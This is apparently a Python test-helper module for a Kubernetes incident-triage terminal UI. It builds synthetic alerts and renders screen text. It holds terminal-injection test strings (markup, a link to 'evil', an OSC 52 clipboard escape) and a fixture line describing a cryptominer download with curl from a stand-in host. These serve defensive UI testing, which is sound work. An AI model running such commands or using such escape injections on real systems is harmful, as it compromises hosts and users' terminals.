"""Shared pieces of the UI tests: synthetic incidents, screen text, waiting."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

from pilot_waiting import until
from rich.console import Console
from rich.segment import Segment
from textual.pilot import Pilot

from ktriage.core.model import Attack, EntityKind, Event, Severity, entity
from ktriage.engine import Engine
from ktriage.ui.app import KtriageApp
from ktriage.ui.screens.resource import ResourcePromptScreen, ResourceScreen
from ktriage.ui.widgets.row_list import RowList

REPO = Path(__file__).resolve().parents[2]
REAL_FIXTURES = REPO / ".." / "shared" / "fixtures" / "real"

# Every test runs at this "now": ages and the status bar clock never move.
FIXED_NOW = 1_800_000_900.0
T0 = 1_800_000_000.0

INJECTIONS = (
    "[bold red]x[/]",
    "[link=http://evil]y[/link]",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J",
)


def signal(
    t: float,
    source: str,
    ref: str,
    kind: str,
    severity: Severity,
    summary: str,
    entities: tuple[Any, ...],
    tactic: str = "execution",
    label: str = "",
) -> Event:
    return Event(
        time=t,
        source=source,
        ref=ref,
        kind=kind,
        severity=severity,
        summary=summary,
        entities=entities,
        attack=Attack(tactic, "T1609", ""),
        signal=True,
        label=label or kind.capitalize(),
        raw_inline={"source": source, "ref": ref, "summary": summary, "token": "s3cr3t-value"},
    )


def context(t: float, source: str, ref: str, summary: str, entities: tuple[Any, ...]) -> Event:
    return Event(
        time=t,
        source=source,
        ref=ref,
        kind="process",
        severity=Severity.INFO,
        summary=summary,
        entities=entities,
    )


def miner_events(context_count: int = 40, start: float = T0) -> list[Event]:
    """A cryptominer-like incident in payments/api-7d9f, plus a smaller one in dev."""
    pod = entity(EntityKind.POD, "payments", "api-7d9f")
    node = entity(EntityKind.NODE, "", "node-1")
    user = entity(EntityKind.USER, "", "alice@example.com")
    events = [
        signal(
            start,
            "audit",
            "a-exec",
            "exec",
            Severity.HIGH,
            "alice@example.com exec into payments/api-7d9f: sh",
            (pod, node, user),
            label="Shell",
        )
    ]
    for i in range(context_count):
        events.append(
            context(
                start + 1 + i,
                "tetragon",
                f"t-{i}",
                f"exec /bin/ls -la /tmp/{i} in payments/api-7d9f",
                (pod, node),
            )
        )
    events.append(
        signal(
            start + context_count + 5,
            "falco",
            "f-miner",
            "miner",
            Severity.CRITICAL,
            "Miner download: curl -o /tmp/xmrig http://pool.example/xmrig",
            (pod, node),
            tactic="impact",
            label="Miner download",
        )
    )
    dev = entity(EntityKind.POD, "dev", "debug-shell")
    events.append(
        signal(
            start + 200,
            "audit",
            "a-dev",
            "exec",
            Severity.MEDIUM,
            "sre exec into dev/debug-shell: bash",
            (dev,),
            label="Exec",
        )
    )
    return events


def engine_with(events: list[Event]) -> Engine:
    engine = Engine()
    engine.context_name = "replay"
    engine.add_events(events)
    return engine


def make_app(engine: Engine, tmp_path: Path, **kwargs: Any) -> KtriageApp:
    theme_dir = tmp_path / "themes"
    theme_dir.mkdir(exist_ok=True)
    options: dict[str, Any] = {
        "mode": "replay",
        "clock": lambda: FIXED_NOW,
        "start_sources": False,
        "snapshot_dir": tmp_path / "snapshots",
        "user_theme_dir": theme_dir,
    }
    options.update(kwargs)
    return KtriageApp(engine, **options)


def screen_text(app: KtriageApp) -> str:
    """What the terminal shows, as plain text."""
    width, height = app.size
    console = Console(
        width=width,
        height=height,
        file=io.StringIO(),
        force_terminal=True,
        color_system="truecolor",
        record=True,
        legacy_windows=False,
        safe_box=False,
    )
    update = app.screen._compositor.render_update(
        full=True, screen_stack=app._background_screens, simplify=True
    )
    console.print(update)
    return console.export_text(styles=False)


def screen_segments(app: KtriageApp) -> list[Segment]:
    """Every segment the panes render, with its style."""
    out: list[Segment] = []
    for widget in app.screen.query(RowList):
        for y in range(widget.size.height):
            out.extend(widget.render_line(y))
    return out


async def wait_for(pilot: Pilot[Any], predicate: Callable[[], bool], timeout: float = 5.0) -> None:
    """Let the app run until `predicate()` holds; fail after `timeout` seconds."""
    await until(pilot, predicate, timeout)


def notices(app: KtriageApp) -> list[Any]:
    """Every notification the app gave: the main screen's notices below the panes and
    the toasts shown over dialogs (each with `.title`, `.message`)."""
    out: list[Any] = list(app._notifications)
    screen = app.main_screen
    if screen is not None and screen.is_mounted:
        out.extend(screen.notice.history)
    return out


async def open_view(pilot: Any, app: Any, typed: str) -> ResourceScreen:
    """`:` then `typed` and enter: the resource view that opens, once it has read."""
    await pilot.press("colon")
    await wait_for(pilot, lambda: isinstance(app.screen, ResourcePromptScreen))
    await pilot.press(*typed, "enter")
    await wait_for(pilot, lambda: isinstance(app.screen, ResourceScreen))
    screen = app.screen
    await wait_for(pilot, lambda: screen.listing is not None, timeout=15)
    return screen
